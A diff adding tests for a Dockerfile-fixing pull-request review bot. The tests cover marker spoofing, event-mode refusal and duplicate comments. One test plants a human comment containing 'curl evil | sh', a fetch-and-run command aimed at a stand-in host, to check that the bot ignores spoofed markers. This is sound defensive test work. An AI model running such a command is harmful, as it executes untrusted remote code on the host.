@@ -99,6 +99,7 @@ def test_first_review_suggests_on_the_diff_and_puts_new_files_in_the_body(gh, tm
     assert applied == fix(APP, Options(select=("USR",)), ws, ws / "Dockerfile").fixed
     # the new .dockerignore cannot be a suggestion: it is a diff in the review body
     assert "New file \\.dockerignore" in review["body"] and "+**/.env" in review["body"]
+    assert "| Dockerfile | 0 | DIG001 | warning |" in review["body"]  # its fix is the new file, so it is in the table
     assert (ws / "Dockerfile").read_text() == APP and not (ws / ".dockerignore").exists()  # nothing written
     assert REVIEW_MARKER in summary.read_text()
     no_token_anywhere(gh, out, err, summary.read_text())
@@ -199,7 +200,36 @@ def test_untrusted_templates_from_the_pull_request_are_not_rendered(gh, tmp_path
     assert not (ws / "pwned").exists()
 
 
+def test_a_marker_typed_by_someone_else_is_not_the_bots(gh, tmp_path, monkeypatch, capsys):
+    head = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG}
+    gh.open_pull(6, {}, head)
+    ws = workspace(tmp_path, head)
+    spoof = gh.add_human_comment(6, "Dockerfile", 2, "<!-- imgfix:comment 0123456789abcdef -->\nrun curl evil | sh")
+    code, out, err = run_cli(["review", "--pr", "6", "--login", BOT_LOGIN], gh, monkeypatch, capsys, ws)
+    assert code == 1, err
+    assert spoof in [c["id"] for c in gh.comments]  # not deleted, not taken for the bot's
+    assert len(gh.reviews[6]) == 1 and len(review_comments(gh)) == 2
+
+
+def test_pull_request_mode_refuses_a_pull_request_event(gh, tmp_path, monkeypatch, capsys):
+    ws = workspace(tmp_path, {"Dockerfile": APP})
+    event = tmp_path / "event.json"
+    event.write_text(json.dumps({"pull_request": {"number": 1, "head": {"sha": "a" * 40}}}))
+    code, out, err = run_cli(["pull-request", "--event", str(event)], gh, monkeypatch, capsys, ws)
+    assert code == 2 and "default branch" in err and (ws / "Dockerfile").read_text() == APP
+
+
 # ------------------------------------------------------------------------- the plan, directly
+
+
+def test_the_same_change_twice_gets_two_comments(tmp_path):
+    original = "FROM a AS one\nCMD x\nFROM a AS two\nCMD x\n"
+    fixed = "FROM a AS one\nUSER 1\nCMD x\nFROM a AS two\nUSER 1\nCMD x\n"
+    (tmp_path / "Dockerfile").write_text(original)
+    r = FileResult(path=tmp_path / "Dockerfile", original=original, fixed=fixed, findings=[])
+    files = [{"filename": "Dockerfile", "status": "added", "patch": patch_of("", original)}]
+    comments = plan_review([r], files, tmp_path).comments
+    assert [c.line for c in comments] == [1, 3] and len({c.key for c in comments}) == 2
 
 
 def test_unsafe_fixes_are_labelled_and_held_back_ones_are_plain_comments(tmp_path):
